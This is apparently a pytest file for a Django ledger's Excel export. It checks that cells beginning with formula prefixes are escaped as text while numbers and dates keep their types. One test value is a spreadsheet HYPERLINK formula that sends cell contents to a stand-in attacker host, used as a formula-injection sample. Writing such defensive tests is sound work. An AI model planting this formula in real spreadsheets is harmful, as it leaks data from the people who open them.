"""Formula injection: exported cells beginning with = + - @ (or a tab/CR) read back as text; numbers stay numbers."""

import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from ledger.renderers import render_xlsx
from ledger.reports import Column, Report, Table
from tests.factories import WorkLogFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def test_excel_export_escapes_formula_cells(client, whole_map):
    log = WorkLogFactory(agreement=whole_map.agreement, remarks=HYPERLINK, status="confirmed")
    client.force_login(whole_map.advisor_user)

    response = client.get(
        "/logs/reports/ledger/",
        {"advisor": whole_map.advisor.pk, "village": whole_map.village.pk, "year": 2026, "format": "xlsx"},
    )

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert HYPERLINK in cells, "the log's remarks are in the ledger"
    cell = cells[HYPERLINK]
    assert cell.data_type == "s" and cell.quotePrefix  # text, shown as typed, never evaluated
    assert log.service_date in {c.value.date() for c in cells.values() if hasattr(c.value, "date")}


def test_excel_export_escapes_every_formula_prefix_but_keeps_numbers_and_dates():
    values = [
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=1+1",
        "普通文字",
        -5,
        Decimal("-1.50"),
        date(2026, 6, 1),
    ]
    table = Table(
        title="测试",
        subtitle="",
        columns=[Column(f"列{i}") for i in range(len(values))],
        rows=[values],
    )

    sheet = load_workbook(io.BytesIO(render_xlsx(Report(title="测试", filename="t", tables=[table])))).active
    row = list(sheet.iter_rows(min_row=4, max_row=4))[0]

    for cell, value in zip(row[:6], values[:6], strict=True):
        # (XML reads a carriage return back as a line feed)
        assert cell.value == value.replace("\r", "\n") and cell.data_type == "s" and cell.quotePrefix, value
    assert row[6].value == "普通文字" and not row[6].quotePrefix
    assert row[7].value == -5 and row[7].data_type == "n"
    assert row[8].value == -1.5 and row[8].data_type == "n"
    assert row[9].value.date() == date(2026, 6, 1) and row[9].is_date
